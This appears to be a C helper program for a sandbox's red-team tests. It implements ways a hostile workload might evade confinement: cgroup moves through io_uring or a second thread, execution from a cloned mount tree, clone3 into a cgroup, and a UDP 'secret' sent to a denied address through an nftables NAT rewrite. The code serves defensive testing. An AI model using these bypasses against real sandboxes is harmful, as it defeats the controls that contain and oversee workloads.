// redteam2 does what a hostile workload does to get around holdfast's
// second-pass mechanisms, for redteam2_test.go.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <arpa/inet.h>
#include <linux/mount.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static int fail(const char *what)
{
	printf("ERR %s: %s\n", what, strerror(errno));
	return 1;
}

// One io_uring operation, submitted and reaped; returns its result.
static int uring_op(const struct io_uring_sqe *tmpl)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int rfd = syscall(__NR_io_uring_setup, 4, &p);
	if (rfd < 0)
		return -errno;
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP && cqsz > sqsz)
		sqsz = cqsz;
	char *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	char *cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -errno;
	}
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQES);
	if (sqes == MAP_FAILED)
		return -errno;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned t = *tail, idx = t & mask;
	sqes[idx] = *tmpl;
	array[idx] = idx;
	__atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, rfd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return cqes[head & cmask].res;
}

// uring-move PROCS BIN ARG0: move this process by writing its pid to PROCS
// (a cgroup.procs file) from an io_uring worker (IOSQE_ASYNC), then exec
// BIN as ARG0.
static int uring_move_mode(char **argv)
{
	int fd = open(argv[0], O_WRONLY);
	if (fd < 0)
		return fail("open cgroup.procs");
	static char pid[32];
	int n = snprintf(pid, sizeof(pid), "%d\n", getpid());
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_WRITE;
	sqe.flags = IOSQE_ASYNC;
	sqe.fd = fd;
	sqe.addr = (unsigned long)pid;
	sqe.len = n;
	sqe.off = -1;
	int r = uring_op(&sqe);
	if (r != n) {
		errno = r < 0 ? -r : EIO;
		return fail("io_uring write cgroup.procs");
	}
	printf("MOVED\n");
	char *args[] = {argv[2], NULL};
	execv(argv[1], args);
	return fail("execv");
}

// tree-exec DIR NAME ARG0: clone the mount at DIR as a detached tree
// (open_tree OPEN_TREE_CLONE) and exec NAME inside it (execveat).
static int tree_exec_mode(char **argv)
{
	int fd = syscall(SYS_open_tree, AT_FDCWD, argv[0], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE);
	if (fd < 0)
		return fail("open_tree");
	char *args[] = {argv[2], NULL};
	char *env[] = {NULL};
	syscall(SYS_execveat, fd, argv[1], args, env, 0);
	return fail("execveat");
}

static void pin_cpu(void)
{
	cpu_set_t set;
	if (sched_getaffinity(0, sizeof(set), &set))
		return;
	for (int c = 0; c < CPU_SETSIZE; c++) {
		if (CPU_ISSET(c, &set)) {
			CPU_ZERO(&set);
			CPU_SET(c, &set);
			sched_setaffinity(0, sizeof(set), &set);
			return;
		}
	}
}

static int lo_up(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct ifreq ifr;
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo");
	if (ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
		return -1;
	ifr.ifr_flags |= IFF_UP;
	if (ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
		return -1;
	close(s);
	return 0;
}

static int udp_bound(const char *ip, struct sockaddr_in *sa)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	inet_pton(AF_INET, ip, &sa->sin_addr);
	if (s < 0 || bind(s, (struct sockaddr *)sa, sizeof(*sa)))
		return -1;
	socklen_t len = sizeof(*sa);
	getsockname(s, (struct sockaddr *)sa, &len);
	return s;
}

// udp-nat NFT DENIED VIA prime|plain: in a network namespace of its own,
// bind a UDP receiver on DENIED, rewrite datagrams to VIA into DENIED with
// a nat rule, connect a UDP socket to VIA and send on it (no address: the
// sendmsg hook does not run). With prime, a sendto DENIED on the same
// socket (refused) comes first. Prints the send result and ARRIVED or
// NOT-ARRIVED; a marker datagram sent after it on the same CPU proves the
// first one, if delivered, is queued when the receiver is read.
static int udp_nat_mode(char **argv)
{
	const char *nft = argv[0], *denied = argv[1], *via = argv[2];
	bool prime = !strcmp(argv[3], "prime");
	pin_cpu();
	if (unshare(CLONE_NEWNET))
		return fail("unshare net");
	if (lo_up())
		return fail("lo up");
	struct sockaddr_in rsa, msa;
	int r = udp_bound(denied, &rsa);
	int m = udp_bound("127.0.0.1", &msa);
	if (r < 0 || m < 0)
		return fail("bind receivers");
	char rules[512];
	snprintf(rules, sizeof(rules),
		 "add table ip hf\n"
		 "add chain ip hf out { type nat hook output priority -100; }\n"
		 "add rule ip hf out ip daddr %s dnat to %s\n",
		 via, denied);
	char cmd[300];
	snprintf(cmd, sizeof(cmd), "%s -f -", nft);
	FILE *f = popen(cmd, "w");
	if (!f)
		return fail("popen nft");
	fputs(rules, f);
	int rc = pclose(f);
	if (rc != 0) {
		printf("ERR nft: %d\n", rc);
		return 1;
	}
	int c = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in vsa = rsa;
	inet_pton(AF_INET, via, &vsa.sin_addr);
	if (connect(c, (struct sockaddr *)&vsa, sizeof(vsa)))
		return fail("connect");
	if (prime) {
		if (sendto(c, "prime", 5, 0, (struct sockaddr *)&rsa, sizeof(rsa)) == 5) {
			printf("ERR prime: sendto the denied address was let through\n");
			return 1;
		}
		printf("PRIME %s\n", errno == EPERM ? "EPERM" : strerror(errno));
	}
	printf(send(c, "secret", 6, 0) == 6 ? "SENT\n" : "SEND %s\n", strerror(errno));
	int k = socket(AF_INET, SOCK_DGRAM, 0);
	if (sendto(k, "marker", 6, 0, (struct sockaddr *)&msa, sizeof(msa)) != 6)
		return fail("marker");
	char buf[16];
	if (recv(m, buf, sizeof(buf), 0) < 0)
		return fail("marker recv");
	ssize_t n;
	bool arrived = false;
	while ((n = recv(r, buf, sizeof(buf), MSG_DONTWAIT)) >= 0)
		if (n == 6 && !memcmp(buf, "secret", 6))
			arrived = true;
	printf(arrived ? "ARRIVED\n" : "NOT-ARRIVED\n");
	return 0;
}

// clone3-exec CGDIR BIN ARG0: start a child in CGDIR (clone3
// CLONE_INTO_CGROUP) that execs BIN as ARG0; prints how it ended.
static int clone3_exec_mode(char **argv)
{
	int cg = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (cg < 0)
		return fail("open cgroup");
	struct clone_args ca;
	memset(&ca, 0, sizeof(ca));
	ca.flags = CLONE_INTO_CGROUP;
	ca.exit_signal = SIGCHLD;
	ca.cgroup = cg;
	long pid = syscall(SYS_clone3, &ca, sizeof(ca));
	if (pid < 0)
		return fail("clone3");
	if (pid == 0) {
		char *args[] = {argv[2], NULL};
		execv(argv[1], args);
		_exit(127);
	}
	int st;
	if (waitpid(pid, &st, 0) < 0)
		return fail("waitpid");
	if (WIFSIGNALED(st))
		printf("CHILD SIGNAL %d\n", WTERMSIG(st));
	else
		printf("CHILD EXIT %d\n", WEXITSTATUS(st));
	return 0;
}

static const char *thread_procs;
static int thread_err;

static void *mover(void *arg)
{
	int fd = open(thread_procs, O_WRONLY);
	char pid[32];
	int n = snprintf(pid, sizeof(pid), "%d\n", getpid());
	if (fd < 0 || write(fd, pid, n) != n)
		thread_err = errno ? errno : EIO;
	return NULL;
}

// thread-move PROCS BIN ARG0: a second thread moves the process by writing
// its pid to PROCS, then the main thread execs BIN as ARG0.
static int thread_move_mode(char **argv)
{
	pthread_t th;
	thread_procs = argv[0];
	if (pthread_create(&th, NULL, mover, NULL) || pthread_join(th, NULL))
		return fail("thread");
	if (thread_err) {
		errno = thread_err;
		return fail("write cgroup.procs");
	}
	printf("MOVED\n");
	char *args[] = {argv[2], NULL};
	execv(argv[1], args);
	return fail("execv");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 5 && !strcmp(argv[1], "uring-move"))
		return uring_move_mode(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "tree-exec"))
		return tree_exec_mode(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "clone3-exec"))
		return clone3_exec_mode(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "thread-move"))
		return thread_move_mode(argv + 2);
	if (argc == 6 && !strcmp(argv[1], "udp-nat"))
		return udp_nat_mode(argv + 2);
	fprintf(stderr, "usage: redteam2 uring-move|tree-exec|clone3-exec|thread-move|udp-nat ARGS...\n");
	return 2;
}
